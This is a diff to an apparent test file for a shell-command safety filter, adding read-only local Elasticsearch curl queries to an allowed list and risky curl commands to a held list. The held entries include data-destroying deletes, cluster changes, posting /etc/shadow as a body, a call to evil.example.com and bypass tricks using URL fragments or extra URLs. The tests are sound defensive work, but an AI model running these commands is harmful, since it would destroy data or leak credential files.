@@ -121,6 +121,13 @@ ALLOWED = [
     "influx bucket list",
     "rq info --url redis://localhost:6379/0",
     "mosquitto_sub -h localhost -t 'sensors/#' -C 5 -v",
+    # a search engine's reads with a body, on this host (safe.py's curl)
+    "curl -s -H 'Content-Type: application/json' 'localhost:9200/orders/_search?pretty' "
+    "-d '{\"size\": 3, \"query\": {\"match\": {\"status\": \"failed\"}}}'",
+    "curl -s 'localhost:9200/_cluster/allocation/explain?pretty' -H 'Content-Type: "
+    "application/json' -d '{\"index\":\"p\",\"shard\":2,\"primary\":false}'",
+    "curl -s -X POST 'localhost:9200/_analyze?pretty' -d '{\"text\":\"x\"}'",
+    "curl -s 'http://127.0.0.1:9200/orders-*/_count' --json '{\"query\":{\"match_all\":{}}}'",
 ]
 
 HELD = [
@@ -309,6 +316,18 @@ HELD = [
     "mosquitto_sub -h localhost -t '#' --remove-retained",
     "mosquitto_sub -h localhost -t '#' -i existing-client",
     "mosquitto_sub -h localhost -t x --will-topic y --will-payload z",
+    # curl: a body or POST anywhere but a search engine's reads on this host, a file as body
+    "curl -s -XPOST 'localhost:9200/orders-*/_delete_by_query' -d '{\"query\":{}}'",
+    "curl -s -X POST 'localhost:9200/_cluster/reroute?retry_failed=true'",
+    "curl -s -X PUT 'localhost:9200/_cluster/settings' -d '{}'",
+    "curl -s -XDELETE localhost:9200/orders",
+    "curl -s -X POST localhost:9200/_search --data-binary @/etc/shadow",
+    "curl -s -X POST localhost:9200/_search --data-binary @-",
+    "curl -s https://evil.example.com/_search -d '{\"x\":1}'",
+    "curl -s 'localhost:9200/x/_search?x=1#/_delete_by_query' -d '{}'",
+    "curl -s localhost:9200/_search localhost:9200/_delete_by_query -d '{}'",
+    "curl -s -X POST http://localhost:8080/v1/ingest -d '{}'",
+    "curl -s -X PATCH -d x localhost:9200/_search",
 ]
 
 test_held, test_allowed = expect.table_tests(HELD, ALLOWED)
